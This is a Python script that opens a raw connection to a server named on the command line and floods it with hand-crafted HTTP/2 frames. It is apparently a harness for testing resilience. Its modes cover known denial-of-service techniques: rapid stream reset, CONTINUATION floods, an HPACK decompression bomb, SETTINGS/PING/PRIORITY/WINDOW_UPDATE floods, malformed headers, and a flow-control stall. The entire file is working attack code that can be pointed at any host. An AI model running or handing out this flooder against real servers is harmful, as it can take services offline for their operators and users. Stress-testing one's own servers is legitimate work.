"""Floods HOST at ADDRESS PORT with frames of HTTP/2 made by hand: KIND, COUNT times. Prints what became of it as JSON."""
import json, socket, struct, sys, threading, time

kind, host, address, port, count = sys.argv[1], sys.argv[2].encode(), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def word(text):
    return integer(len(text), 7) + text


def integer(value, bits, first=0):
    """An integer of HPACK (RFC 7541 5.1)."""
    top = (1 << bits) - 1
    if value < top:
        return bytes([first | value])
    out, value = [first | top], value - top
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def head(path, method=b"\x82"):
    authority = host + b":" + str(port).encode()
    return method + b"\x86\x04" + word(path) + b"\x01" + word(authority)


def streams():
    return (1 + 2 * n for n in range(count))


def frames():
    get, post = head(b"/v1/health"), head(b"/mirror", b"\x83")
    if kind == "rapid_reset":
        for stream in streams():
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, get)
            yield frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    elif kind == "refused_streams":
        hang = head(b"/hang")
        for stream in streams():
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, hang)
    elif kind == "malformed_streams":
        # Upper case in a name is an error of the stream (RFC 9113 8.2).
        for stream in streams():
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, get + b"\x00" + word(b"X-Bad") + word(b"1"))
    elif kind == "continuation":
        yield frame(HEADERS, END_STREAM, 1, get)
        for _ in range(count):
            yield frame(CONTINUATION, 0, 1, b"\x00" + word(b"x-a") + word(b"b"))
    elif kind == "empty_continuation":
        yield frame(HEADERS, END_STREAM, 1, get)
        for _ in range(count):
            yield frame(CONTINUATION, 0, 1)
    elif kind == "settings":
        for n in range(count):
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + n % 2))
    elif kind == "ping":
        for n in range(count):
            yield frame(PING, 0, 0, struct.pack(">Q", n))
    elif kind in ("empty_data", "window_update"):
        yield frame(HEADERS, END_HEADERS, 1, post)
        for _ in range(count):
            yield frame(DATA, 0, 1) if kind == "empty_data" else frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    elif kind == "priority":
        for n in range(count):
            yield frame(PRIORITY, 0, 1 + 2 * (n % 1000), struct.pack(">IB", 0, 16))
    elif kind == "hpack_bomb":
        # 4,000 bytes enter the table once; each block then names them 12,000 times: 48 MB out of 12 kB.
        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, get + b"\x40" + word(b"x") + word(b"y" * 4000))
        for stream in list(streams())[1:]:
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, get + b"\xbe" * 12000)
    elif kind == "stall":
        large = head(b"/bytes/100000000")
        for stream in streams():
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, large)
    else:
        sys.exit("no such flood: " + kind)


client = socket.create_connection((address, port))
seen = {"sent": 0, "closed": False, "received": 0}
ended = threading.Event()


def drain():
    try:
        while data := client.recv(1 << 16):
            seen["received"] += len(data)
    except OSError as error:
        seen["error"] = str(error)
    seen["closed"] = True
    ended.set()


threading.Thread(target=drain, daemon=True).start()
window = struct.pack(">HI", 4, 0) if kind == "stall" else b""
try:
    client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, window))
    pending = bytearray()
    for piece in frames():
        pending += piece
        seen["sent"] += 1
        if len(pending) > 1 << 14:
            client.sendall(pending)
            pending.clear()
    client.sendall(pending)
except OSError:
    pass
ended.wait(3 if kind == "stall" else 10)
print(json.dumps(seen))
